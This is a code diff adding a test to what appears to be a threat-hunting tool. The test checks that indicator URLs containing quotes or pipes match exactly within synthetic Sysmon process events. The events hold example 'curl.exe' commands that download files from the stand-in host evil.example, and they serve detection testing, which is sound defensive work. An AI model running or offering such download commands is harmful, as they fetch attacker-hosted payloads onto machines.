@@ -1344,3 +1344,35 @@ def test_terminal_tables_clip_a_very_long_value_as_the_reports_do(rules: Path, t
         assert 300 <= result.stdout.count("B") < 320, result.stdout
         assert "ws01" in result.stdout
     assert "(20,000 characters)" in summary.stdout  # (the timeline's narrow column folds it)
+
+
+def test_a_url_indicator_holding_a_quote_matches_where_it_stands(tmp_path: Path) -> None:
+    urls = [
+        "http://evil.example/q'x",
+        'http://evil.example/p"q',
+        "http://evil.example/a|b",
+        "http://evil.example/plain",
+    ]
+    lines = [f"curl.exe {url} -o x" for url in urls]
+    lines += [
+        'curl.exe "http://evil.example/q\'x" -o y',  # quoted around it: the same URL
+        "curl.exe http://evil.example/q'xyz -o z",  # a longer URL: not this one
+        'curl.exe xhttp://evil.example/p"q -o z',  # another scheme: not this one
+    ]
+    events = [
+        win_event(1, SYSMON, process("C:\\x\\curl.exe", line), computer="ws01", record=n)
+        for n, line in enumerate(lines, start=1)
+    ]
+    write_jsonl(tmp_path / "ev" / "sysmon.jsonl", events)
+    iocs = tmp_path / "iocs.txt"
+    iocs.write_text("\n".join(urls) + "\n")
+    (tmp_path / "rules").mkdir()
+    result = hunt([tmp_path / "ev"], [tmp_path / "rules"], tmp_path / "case", jobs=1, iocs=[iocs])
+    assert result.iocs["matched"] == {
+        "http://evil.example/q'x": 2,
+        'http://evil.example/p"q': 1,
+        "http://evil.example/a|b": 1,
+        "http://evil.example/plain": 1,
+    }
+    rows = [r for r in read_findings(tmp_path / "case" / "findings.parquet") if r.rule_id == "ioc:url"]
+    assert sorted(r.record for r in rows) == ["1", "2", "3", "4", "5"]
